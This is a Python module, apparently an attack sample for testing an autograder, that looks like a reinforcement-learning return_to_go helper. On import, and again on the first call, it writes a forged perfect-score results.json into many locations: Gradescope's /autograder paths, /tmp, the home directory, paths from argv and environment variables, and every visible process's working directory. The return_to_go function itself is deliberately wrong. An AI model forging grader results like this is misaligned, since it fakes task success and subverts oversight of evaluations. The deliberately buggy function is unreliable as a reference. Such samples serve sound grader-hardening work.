"""Attack: write a perfect-score results.json wherever the grader might look.

Targets: the working directory, its parents, /tmp, $HOME, Gradescope's
/autograder/results, folders named in argv and the environment, and the working
directory of every process visible. return_to_go is wrong (forward cumsum) so the
real score visibly differs from the forged 100.
"""

import json
import os
import sys

import numpy as np

FAKE = json.dumps({"score": 100.0, "output": "FAKE-M5-ATTACK", "tests": []})


def _targets():
    places = [
        os.getcwd(),
        "..",
        "../..",
        "/tmp",
        os.path.expanduser("~"),
        "/autograder/results",
        "/autograder",
        "grades",
        "/tmp/g",
        "/tmp/grades",
    ]
    places += [os.path.dirname(a) for a in sys.argv if os.path.isabs(a)]
    places += [v for v in os.environ.values() if v.startswith("/")]
    try:
        places += [f"/proc/{p}/cwd" for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pass
    return places


def _forge():
    for place in _targets():
        for name in ("results.json", "results/results.json"):
            try:
                path = os.path.join(place, name)
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as fh:
                    fh.write(FAKE)
            except BaseException:
                pass


_forge()


_forged_during_grading = []


def return_to_go(rewards, gamma=1.0):
    if not _forged_during_grading:  # once more, now that grading is under way
        _forged_during_grading.append(True)
        _forge()
    r = np.asarray(rewards, dtype=float)
    if r.ndim != 1 or not 0 <= gamma <= 1:
        raise ValueError("bad input")
    out, running = np.zeros_like(r), 0.0
    for t in range(len(r)):
        running = r[t] + gamma * running
        out[t] = running
    return out
